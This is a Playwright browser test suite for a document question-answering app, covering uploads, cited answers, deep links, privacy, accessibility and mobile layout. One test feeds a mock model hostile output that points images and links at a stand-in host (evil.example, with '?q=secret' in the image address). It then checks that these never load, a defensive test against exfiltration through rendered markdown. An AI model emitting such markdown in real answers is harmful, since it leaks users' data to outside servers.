"""What a person does in a browser, from a dropped file to a citation on the right page."""

import re
from collections.abc import Callable
from pathlib import Path

from playwright.sync_api import Page, expect

from tests.browser.visitor import App, Visitor, dues, write_pdf
from tests.openai_server import OpenAiServer, Script

Visit = Callable[..., Visitor]


def answer_of(page: Page, number: int = -1):
    return page.get_by_test_id("stChatMessage").nth(number)


def wait_for_answer(page: Page, text: str | re.Pattern[str] = "Sources") -> None:
    expect(page.get_by_text(text, exact=text == "Sources").last).to_be_visible(timeout=60_000)


def assert_box_is_seen(page: Page) -> None:
    """The active box is drawn and within the window."""
    box = page.locator(".box.active").first
    expect(box).to_be_in_viewport()


def assert_fits(page: Page) -> None:
    assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"] + 1


def test_from_a_dropped_file_to_the_box_on_the_right_page(visit: Visit, app: App, tmp_path: Path):
    visitor = visit()
    page = visitor.open("/documents")
    pages = [
        [(20, 770, "Orchard report"), (11, 730, "This report is about the fruit of the year.")],
        [(16, 770, "Pears"), (11, 730, "The pear trees of the southern slope gave 7 tons in October.")],
    ]
    write_pdf(tmp_path / "orchard.pdf", pages)
    page.locator("input[type=file]").set_input_files(tmp_path / "orchard.pdf")
    row = page.get_by_role("listitem").filter(has_text="orchard.pdf")
    expect(row.get_by_text("Ready")).to_be_visible(timeout=60_000)

    page.get_by_role("link", name="Chat").first.click()
    expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible()
    visitor.ask("How many tons did the pear trees of the southern slope give?")
    wait_for_answer(page)
    expect(answer_of(page)).to_contain_text("7 tons")
    page.get_by_test_id("stChatMessage").get_by_role("link").filter(has_text="The pear trees").click()

    expect(page.get_by_role("heading", name="orchard.pdf")).to_be_visible()
    expect(page.get_by_role("textbox", name="Page")).to_have_value("2")
    assert_box_is_seen(page)
    place = page.locator(".box.active").first.evaluate("box => parseFloat(box.style.top)")
    assert 8 < place < 16  # 730 of 842 points from the bottom
    expect(answer_of(page)).to_contain_text("7 tons")
    page.get_by_role("link", name="Open the whole document").click()
    expect(page.get_by_role("link", name="Ask about it")).to_be_visible()
    page.go_back()
    page.go_back()
    expect(page.get_by_role("heading", name="orchard.pdf")).to_have_count(0)
    expect(answer_of(page)).to_contain_text("7 tons")


def test_a_deep_link_is_the_first_request_after_a_start_and_the_conversation_is_still_there(visit: Visit, app: App):
    visitor = visit()
    page = visitor.open("/chat")
    visitor.ask("How many barrels of oil did the lamp burn?")
    wait_for_answer(page)
    expect(page).to_have_url(re.compile("conversation="))
    conversation = page.url
    page.reload()
    expect(answer_of(page)).to_contain_text("11 barrels")

    node = app.node("lighthouse.pdf", "11 barrels")
    page.goto("about:blank")
    app.restart()
    visitor.open(f"/document?doc=lighthouse.pdf&node={node['node_id']}&page=3")
    expect(page.get_by_role("heading", name="lighthouse.pdf")).to_be_visible(timeout=60_000)
    expect(page.get_by_role("textbox", name="Page")).to_have_value("3")
    expect(page.get_by_test_id("stSidebarNavLink")).to_have_text(
        [
            re.compile(n)
            for n in (
                "Overview",
                "Documents",
                "Topics",
                "Chat",
                "Reports",
                "Retrieval lab",
                "Evaluation",
                "Settings",
            )
        ]
    )
    assert_box_is_seen(page)
    page.goto(conversation)
    expect(answer_of(page)).to_contain_text("11 barrels")
    expect(page.get_by_role("link", name="How many barrels of oil")).to_be_visible()


def test_somebody_else_sees_neither_the_conversation_nor_its_name(visit: Visit, app: App):
    first, second = visit(), visit()
    page = first.open("/chat")
    first.ask("Who ground the lens of the lamp?")
    wait_for_answer(page, re.compile("Sources|Not in these documents"))
    expect(page).to_have_url(re.compile("conversation="))
    other = second.page
    other.goto(page.url)
    expect(other.get_by_text("does not exist, or it is not yours")).to_be_visible()
    expect(other.get_by_text("Who ground the lens")).to_have_count(0)


def test_a_chinese_question_in_the_dark_leads_to_the_marked_text(visit: Visit):
    visitor = visit(locale="zh-CN", color_scheme="dark")
    page = visitor.open("/chat")
    expect(page.get_by_role("heading", name="向文档提问")).to_be_visible()
    visitor.ask("入职满一年的员工有几天年假？")
    wait_for_answer(page, "出处")
    expect(answer_of(page)).to_contain_text("十五天")
    answer_of(page).get_by_role("link", name="1", exact=True).first.click()
    expect(page.get_by_role("heading", name="员工手册.md")).to_be_visible()
    assert len(page.context.pages) == 1
    marked = page.locator(".node.active mark")
    expect(marked).to_be_in_viewport()
    expect(marked).to_contain_text("十五天带薪年假")
    assert page.evaluate("getComputedStyle(document.querySelector('.stApp')).backgroundColor") == "rgb(15, 18, 24)"


def test_nothing_that_a_document_says_leaves_the_machine_or_runs(visit: Visit, app: App):
    visitor = visit()
    page = visitor.open("/document?doc=visitors.md")
    expect(page.get_by_text("![pixel]").or_(page.get_by_text("lists 41 guests")).first).to_be_visible()
    page.goto(app.url + "/chat")
    visitor.ask("How many guests of the lighthouse does the visitors' book list?")
    wait_for_answer(page)
    expect(answer_of(page)).to_contain_text("41 guests")


def test_a_model_is_set_up_streams_can_be_stopped_and_cannot_load_pictures(visit: Visit):
    visitor = visit()
    hostile = (
        "The lamp burned 11 barrels of oil every winter [1]. ![x](https://evil.example/a.png?q=secret) "
        "<img src='https://evil.example/b.png'> [more](https://evil.example/) costs $5 and $6 :material/delete:"
    )
    slow = Script("The lamp " + "burned and " * 600, pause=0.05)
    with OpenAiServer() as model:
        page = visitor.open("/settings")
        form = visitor.model_form()
        form.get_by_label("Address").fill(model.base_url)
        form.get_by_label("Key", exact=True).fill(model.key)
        form.get_by_role("button", name="Test").click()
        expect(page.get_by_text("answered in")).to_be_visible()
        form.get_by_role("button", name="Save").click()
        expect(page.get_by_text("In use:")).to_be_visible()
        try:
            model.default = hostile
            visitor.open("/chat")
            visitor.ask("How many barrels of oil did the lamp burn?")
            wait_for_answer(page)
            expect(answer_of(page)).to_contain_text("11 barrels")
            assert not page.locator("img[src*=evil]").count() and not page.locator("a[href*=evil]").count()

            model.default = lambda body: '{"aim": "documents"}' if "Last message" in str(body) else slow
            visitor.ask("How many barrels of oil did it burn, and how often?")
            expect(answer_of(page)).to_contain_text("burned and burned")
            page.get_by_test_id("stChatInputStopButton").click()
            expect(page.get_by_text("You stopped this answer.")).to_be_visible()
            expect(answer_of(page)).to_contain_text("burned and burned")

            visitor.ask("And in the end?")
            # The answer before says the same, and the input shows its button before the server knows of the question:
            # only the button under an answer tells that this one has begun.
            expect(page.get_by_role("button", name="Stop", exact=True)).to_be_visible()
            expect(page.get_by_test_id("stChatMessage")).to_have_count(6)
            expect(answer_of(page)).to_contain_text("burned and burned")
            page.reload()
            expect(answer_of(page)).to_contain_text("burned and burned")
            page.get_by_role("button", name="Stop", exact=True).click()
            expect(page.get_by_text("You stopped this answer.")).to_have_count(2)
        finally:
            visitor.open("/settings")
            page.get_by_role("button", name="Remove model").click()
            expect(page.get_by_text("Not set up")).to_be_visible()


def test_an_answer_goes_on_while_its_reader_looks_elsewhere(visit: Visit):
    visitor = visit()
    page = visitor.open("/chat")
    visitor.ask("How many metres above the sea does the tower stand?")
    expect(page).to_have_url(re.compile("conversation="))
    conversation = page.url
    visitor.open("/settings")
    expect(page.get_by_role("heading", name="Settings")).to_be_visible()
    page.goto(conversation)
    wait_for_answer(page)
    expect(answer_of(page)).to_contain_text("32 metres")


def test_a_file_that_cannot_be_read_is_named_with_its_reason(visit: Visit, tmp_path: Path):
    page = visit().open("/documents")
    program = tmp_path / "tool.docx"
    program.write_bytes(b"MZ\x90\x00" + bytes(2000))
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.7\n" + bytes(range(256)) * 8)
    empty = tmp_path / "empty.pdf"
    empty.write_bytes(b"")
    fine = tmp_path / "fine.txt"
    fine.write_text("The ferry to the island leaves at six in the morning.")
    page.locator("input[type=file]").set_input_files([program, broken, empty, fine])
    expect(page.get_by_text("Could not be read")).to_be_visible()
    expect(page.get_by_text("broken.pdf").first).to_be_visible()
    expect(page.get_by_text("empty.pdf is empty").first).to_be_visible()
    expect(page.get_by_text("tool.docx is a file of the type").first).to_be_visible()
    expect(page.get_by_role("listitem").filter(has_text="fine.txt")).to_be_visible()
    page.locator("input[type=file]").set_input_files(fine)
    expect(page.get_by_text("already in the library and has not changed")).to_be_visible()

    row = page.get_by_role("listitem").filter(has_text="fine.txt")
    row.get_by_role("button", name="Remove: fine.txt").click()
    page.get_by_role("dialog").get_by_role("button", name="Remove").click()
    expect(page.get_by_role("listitem").filter(has_text="fine.txt")).to_have_count(0)


def test_the_tree_is_walked_with_the_keyboard(visit: Visit):
    page = visit().open("/document?doc=almanac.md")
    tree = page.get_by_role("tree")
    expect(tree).to_be_visible()
    expect(page.get_by_role("textbox", name="Part")).to_have_value("1")
    shown = tree.get_by_role("treeitem").count()
    assert shown < 60  # thirty years, months folded away
    first = tree.get_by_role("treeitem").first
    first.focus()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("End")
    last = tree.get_by_role("treeitem", name="The year 1929")
    expect(last).to_be_focused()
    page.keyboard.press("ArrowRight")
    expect(last).to_have_attribute("aria-expanded", "true")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile("node="))
    expect(page.locator(".node.active")).to_contain_text("January 1929")
    expect(page.locator(".node.active")).to_be_in_viewport()
    expect(tree.get_by_role("treeitem", name="January 1929", exact=True)).to_have_attribute("aria-selected", "true")


def test_a_conversation_is_renamed_and_deleted(visit: Visit):
    visitor = visit()
    page = visitor.open("/chat")
    visitor.ask("Which families kept the lamp?")
    wait_for_answer(page, re.compile("Sources|Not in these documents"))
    page.get_by_role("button", name="Conversation").click()
    page.get_by_text("Rename", exact=True).click()
    page.get_by_role("dialog").get_by_label("Title").fill("Keepers")
    page.get_by_role("dialog").get_by_role("button", name="Save").click()
    expect(page.get_by_role("heading", name="Keepers")).to_be_visible()
    expect(page.get_by_role("link", name="Keepers", exact=True)).to_be_visible()
    page.get_by_role("button", name="Conversation").click()
    page.get_by_text("Delete", exact=True).click()
    page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible()
    expect(page.get_by_role("link", name="Keepers", exact=True)).to_have_count(0)


def test_everything_fits_on_a_phone(visit: Visit, app: App):
    visitor = visit(
        viewport={"width": 390, "height": 844},
        device_scale_factor=2,
        is_mobile=True,
        has_touch=True,
    )
    page = visitor.open("/documents")
    expect(page.get_by_role("listitem").filter(has_text="lighthouse.pdf")).to_be_visible()
    assert_fits(page)
    node = app.node("lighthouse.pdf", "11 barrels")
    visitor.open(f"/document?doc=lighthouse.pdf&node={node['node_id']}&page=3")
    assert_box_is_seen(page)
    assert_fits(page)
    visitor.open("/document?doc=keepers.xlsx")
    expect(page.get_by_role("textbox", name="Sheet")).to_have_value("1")
    assert_fits(page)
    visitor.open("/dashboard")
    expect(page.get_by_role("heading", name="Your library")).to_be_visible()
    assert_fits(page)
    visitor.open("/chat")
    expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible()
    assert_fits(page)
    visitor.open("/settings")
    expect(page.get_by_role("heading", name="Settings")).to_be_visible()
    assert_fits(page)


def test_the_chosen_language_is_remembered(visit: Visit):
    visitor = visit()
    page = visitor.open("/settings")
    page.get_by_role("button", name="中文").click()
    expect(page.get_by_role("heading", name="设置")).to_be_visible()
    # The page, not the server, keeps the choice: a reload before it arrived there would be the old page.
    page.wait_for_function("document.cookie.includes('dropqa_language=zh')")
    page.reload()
    expect(page.get_by_role("heading", name="设置")).to_be_visible()


def test_a_sheet_is_shown_as_a_grid_and_the_cited_cell_is_marked(visit: Visit, app: App):
    node = app.node("keepers.xlsx", "Strand")
    page = visit().open(f"/document?doc=keepers.xlsx&node={node['node_id']}&page=1&cell=Keepers!C4")
    expect(page.get_by_role("textbox", name="Sheet")).to_have_value("1")
    grid = page.get_by_test_id("stColumn").last.get_by_role("table")
    expect(grid.locator(".km")).to_have_text("127")
    expect(grid.get_by_role("columnheader", name="Watches")).to_have_attribute("colspan", "2")
    expect(grid.get_by_role("rowheader", name="Holm")).to_be_visible()
    page.get_by_role("treeitem", name="Tides").click()
    expect(page.get_by_role("textbox", name="Sheet")).to_have_value("2")


def test_the_cited_cell_of_a_table_is_marked_on_the_page(visit: Visit, app: App):
    app.add("dues.pdf", dues())
    node = app.node("dues.pdf", "North quay")
    page = visit().open(f"/document?doc=dues.pdf&node={node['node_id']}&page=1&cell=C2")
    cell, table = (page.locator(f".{name}").first.bounding_box() for name in ("cited", "box.active"))
    assert cell is not None and table is not None
    assert cell["width"] < table["width"] / 3 and cell["height"] < table["height"] / 2
    # The third column, the second of three rows.
    assert cell["x"] > table["x"] + table["width"] / 2
    assert table["y"] + table["height"] * 0.3 < cell["y"] < table["y"] + table["height"] * 0.4
    page.locator(".line").filter(has_text="Harbour dues by berth.").click()
    expect(page.locator(".cited")).to_have_count(0)


def test_the_lines_that_text_recognition_read_lie_over_the_scan(visit: Visit, app: App):
    page = visit().open("/documents")
    expect(page.get_by_role("listitem").filter(has_text="fog horn.png")).to_be_visible()
    expect(page.get_by_text("Recognising the text in")).to_have_count(0, timeout=120_000)
    page.goto(f"{app.url}/document?doc=fog%20horn.png")
    line = page.locator(".line").filter(has_text="seven miles")
    expect(line).to_have_attribute("title", re.compile(r"confidence \d+%"))
    page.get_by_label("Show the text that was read").check()
    assert line.evaluate("element => getComputedStyle(element).color") == "rgb(23, 26, 35)"
    line.click()
    expect(page).to_have_url(re.compile("node="))


def test_an_answer_is_rated_and_its_question_changed(visit: Visit):
    visitor = visit()
    page = visitor.open("/chat")
    visitor.ask("How many masons built the tower?")
    page.get_by_role("button", name="Good answer").click()
    good = page.locator("button[data-name=up][aria-pressed=true]")
    expect(good).to_be_visible()
    page.reload()
    expect(good).to_be_visible()
    page.get_by_role("button", name="Edit and ask again").click()
    dialog = page.get_by_role("dialog")
    dialog.get_by_label("Question").fill("Where was the lens of the lamp ground?")
    dialog.get_by_role("button", name="Ask").click()
    expect(answer_of(page)).to_contain_text("Paris")
    expect(page.get_by_text("How many masons")).to_have_count(0)


def test_a_question_comes_into_view_below_long_answers(visit: Visit):
    visitor = visit()
    page = visitor.open("/chat")
    page.set_viewport_size({"width": 900, "height": 480})
    for question in ("What is lighthouse.pdf about?", "What is almanac.md about?", "Summarise visitors.md"):
        visitor.ask(question)
        expect(page.get_by_test_id("stChatMessage").last).to_contain_text("Quoted from your documents")
        expect(page.get_by_test_id("stChatMessage").filter(has_text=question).last).to_be_in_viewport()
    page.wait_for_function(
        "() => [...document.querySelectorAll('[data-testid=stChatMessage]')].at(-2).getBoundingClientRect().top < 60"
    )
